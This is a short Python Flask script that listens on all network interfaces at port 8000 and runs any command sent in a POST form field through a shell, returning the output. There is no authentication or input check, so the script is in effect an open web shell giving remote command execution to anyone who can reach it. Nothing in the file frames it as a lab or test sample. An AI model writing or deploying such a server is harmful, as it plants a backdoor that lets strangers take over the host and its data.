import subprocess

from flask import Flask, request

app = Flask(__name__)


def run(command):
    return subprocess.run(command, shell=True, capture_output=True).stdout


@app.post("/")
def start():
    return run(request.form["command"])


app.run("0.0.0.0", 8000)
